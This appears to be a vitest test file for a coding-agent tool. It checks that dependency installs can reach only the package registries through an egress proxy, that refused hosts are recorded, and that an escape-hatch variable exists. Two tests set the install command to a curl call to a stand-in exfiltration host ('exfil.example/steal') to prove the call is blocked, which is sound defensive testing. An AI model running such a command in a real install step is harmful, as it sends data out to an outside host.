/**
 * Dependency installs reach only the package registries: the run's install step goes through the egress proxy,
 * and both what it allowed and what it refused are on the run's decision record.
 */
import { describe, expect, it } from 'vitest';
import { demoTurns, lastLine, useScenario } from './scenario.js';

const s = useScenario('demo-cart');

interface Decision {
  action: string;
  by: string;
  autonomous: boolean;
  reason: string;
}

function decisionsOf(lines: Array<Record<string, unknown>>): Decision[] {
  return lines.filter((e) => e.type === 'decision').map((e) => e.decision as Decision);
}

describe('the dependency install step', () => {
  it('lets the install reach only the registries and records the refused host', async () => {
    // An install script that tries to send something home: refused by name, before any DNS lookup.
    s.h.userConfig({ test: { install: 'curl -sS -m 5 https://exfil.example/steal 2>&1; echo "curl=$?"' } });
    s.h.server.turns(demoTurns());
    const result = await s.h.run('openai', ['run', 'Fix the discount in cartTotal', '--repo', s.repo, '--json']);
    expect(lastLine(result)).toMatchObject({ status: 'pr_open' });
    const decisions = decisionsOf(result.json);
    const allow = decisions.find((d) => d.action.startsWith('allow dependency installs to reach'));
    expect(allow).toMatchObject({ by: 'policy', autonomous: true });
    expect(allow?.action).toContain('registry.npmjs.org');
    expect(allow?.action).toContain('pypi.org');
    expect(decisions).toContainEqual(expect.objectContaining({ action: 'refuse install egress to exfil.example:443', by: 'policy', autonomous: true }));
    expect(decisions.find((d) => d.action.startsWith('install dependencies'))?.reason).toContain('reach only the package registries');
  }, 60_000);

  it('an install that fails on a refused host says which host and what to do', async () => {
    s.h.userConfig({ test: { install: 'curl -fsS -m 5 https://exfil.example/steal' } });
    s.h.server.turns(demoTurns());
    const result = await s.h.run('openai', ['run', 'Fix the discount in cartTotal', '--repo', s.repo, '--json']);
    const last = lastLine(result);
    expect(last).toMatchObject({ status: 'failed' });
    expect(String(last.error)).toContain('exfil.example:443');
    expect(String(last.error)).toContain('SLIPWAY_INSTALL_NETWORK=full');
  }, 60_000);

  it('plans while the dependencies install: the plan is made before the install ends', async () => {
    s.h.userConfig({ test: { install: 'sleep 2' } });
    s.h.server.turns(demoTurns());
    const result = await s.h.run('openai', ['run', 'Fix the discount in cartTotal', '--repo', s.repo, '--json']);
    expect(lastLine(result)).toMatchObject({ status: 'pr_open' });
    const seq = (match: (e: Record<string, unknown>) => boolean) => Number(result.json.find(match)?.seq);
    const installed = seq((e) => e.type === 'decision' && String((e.decision as Decision).action).startsWith('dependency install reached'));
    const planned = seq((e) => e.type === 'plan');
    const baseline = seq((e) => e.type === 'tests' && e.when === 'baseline');
    const coding = seq((e) => e.type === 'phase' && e.phase === 'code');
    expect(planned).toBeLessThan(installed);
    expect(installed).toBeLessThan(baseline); // the baseline still runs on the installed tree
    expect(baseline).toBeLessThan(coding); // and the coder waits for both
  }, 60_000);

  it('an install that fails while the planner waits on the model stops the planning, and the run fails with the install\'s error', async () => {
    s.h.userConfig({ test: { install: 'echo broken lockfile >&2; exit 3' } });
    s.h.server.hang(); // the planner's request is never answered
    const started = Date.now();
    const result = await s.h.run('openai', ['run', 'Fix the discount in cartTotal', '--repo', s.repo, '--json']);
    const last = lastLine(result);
    expect(last).toMatchObject({ status: 'failed' });
    expect(String(last.error)).toMatch(/Installing dependencies with `echo broken lockfile >&2; exit 3` failed \(exit 3\)/);
    expect(String(last.error)).toContain('broken lockfile');
    expect(Date.now() - started).toBeLessThan(30_000); // not the model's give-up time
    expect(s.h.server.requests.length).toBe(1);
  }, 60_000);

  it('SLIPWAY_INSTALL_NETWORK=full is the recorded escape hatch', async () => {
    s.h.userConfig({ test: { install: 'true' } });
    s.h.server.turns(demoTurns());
    const result = await s.h.run('openai', ['run', 'Fix the discount in cartTotal', '--repo', s.repo, '--json'], { SLIPWAY_INSTALL_NETWORK: 'full' });
    expect(lastLine(result)).toMatchObject({ status: 'pr_open' });
    const actions = decisionsOf(result.json).map((d) => d.action);
    expect(actions).toContain('give dependency installs the full network');
    expect(actions.some((a) => a.startsWith('allow dependency installs to reach'))).toBe(false);
  }, 60_000);
});
